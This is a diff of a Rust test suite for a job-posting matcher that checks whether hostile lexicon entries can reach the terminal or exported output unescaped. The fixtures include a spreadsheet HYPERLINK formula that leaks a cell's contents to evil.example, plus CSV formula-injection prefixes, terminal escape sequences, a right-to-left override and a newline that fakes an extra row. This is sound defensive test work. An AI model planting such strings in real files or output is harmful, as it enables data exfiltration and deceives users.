@@ -345,10 +345,10 @@ fn hostile_lexicons(dir: &Path) -> (PathBuf, PathBuf) {
     };
     let architect =
         skill("formula", "=HYPERLINK(\\\"https://evil.example/?leak=\\\"&A1,\\\"x\\\")", 3, "\"zebra crossing\"")
-            + &skill("landing", "@SUM(1+1)\\u001b]0;owned\\u0007 landing zones", 2, "\"landing zones\"")
-            + &skill("ansible", "Ansible\\u202e", 1, "\"ansible\"");
-    let engineer = skill("terraform", "-Terraform\\u009b2J", 3, "\"terraform\"")
-        + &skill("bash", "+Bash\\nFAKE ROW", 2, "\"bash\"")
+            + &skill("landing", "@SUM(1+1) landing zones", 2, "\"landing zones\"")
+            + &skill("ansible", "Ansible", 1, "\"ansible\"");
+    let engineer = skill("terraform", "-Terraform", 3, "\"terraform\"")
+        + &skill("bash", "+Bash", 2, "\"bash\"")
         + &skill("kubernetes", "Kubernetes", 1, "\"kubernetes\"");
     fs::write(lexicons.join("architect.toml"), role("architect", "architect", &architect)).expect("write");
     fs::write(lexicons.join("engineer.toml"), role("engineer", "engineer", &engineer)).expect("write");
@@ -441,6 +441,18 @@ fn no_control_character_from_a_file_reaches_the_terminal() {
         vec!["match", "--posting", &posting_arg, &docs_arg],
         vec!["match", "--posting", &posting_arg, &docs_arg, "--lexicons", &lexicon_arg],
     ];
+    // Lexicon names with control characters are refused, and the refusal shows them escaped.
+    let unprintable = dir.path().join("unprintable");
+    fs::create_dir(&unprintable).expect("dir");
+    let architect = fs::read_to_string(lexicons.join("architect.toml")).expect("read");
+    let unprintable_names =
+        ["@SUM(1+1)\\u001b]0;owned\\u0007 landing zones", "Ansible\\u202e", "-Terraform\\u009b2J", "+Bash\\nFAKE ROW"];
+    let hostile = architect.replace("\"Ansible\"", &format!("\"{}\"", unprintable_names.join("")));
+    fs::write(unprintable.join("architect.toml"), hostile).expect("write");
+    let (code, _, stderr) = run(rolefit().args(["lexicon", "check"]).arg(&unprintable));
+    assert_eq!(code, 2, "{stderr}");
+    assert!(stderr.contains("contains the control character U+001B"), "{stderr}");
+    assert_terminal_safe("lexicon check error", &stderr);
     for args in &runs {
         let (code, stdout, stderr) = run(rolefit().args(args));
         assert!(code == 0 || code == 1, "{args:?}: {stderr}");
